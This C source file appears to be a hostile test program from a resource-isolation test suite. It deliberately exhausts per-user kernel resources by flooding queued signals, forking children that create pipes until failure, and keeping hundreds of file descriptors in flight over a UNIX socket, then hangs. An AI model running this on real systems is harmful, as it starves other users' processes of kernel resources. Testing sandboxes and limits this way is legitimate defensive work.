/* Takes all that the kernel counts by user: pending signals, buffers of pipes, descriptors in flight. Then closes its output. */
#include "../hostile/attack.h"
int main(void)
{
    sigset_t all; sigfillset(&all); sigprocmask(SIG_BLOCK, &all, NULL);
    while (sigqueue(getpid(), SIGRTMIN, (union sigval){0}) == 0) ;
    int p[2], s[2], count = 0;
    for (int i = 0; i < 3; i++) if (fork() == 0) { while (pipe(p) == 0) ; close(1); pause(); }
    socketpair(AF_UNIX, SOCK_STREAM, 0, s);
    char byte = 0; struct iovec part = {&byte, 1}; int many[250] = {0};
    union { struct cmsghdr head; char space[CMSG_SPACE(sizeof many)]; } control = {0};
    struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
    control.head = (struct cmsghdr){CMSG_LEN(sizeof many), SOL_SOCKET, SCM_RIGHTS}; memcpy(CMSG_DATA(&control.head), many, sizeof many);
    while (count < 100 && sendmsg(s[0], &message, MSG_DONTWAIT) == 1) count++;
    close(1);
    while (1) pause();
}
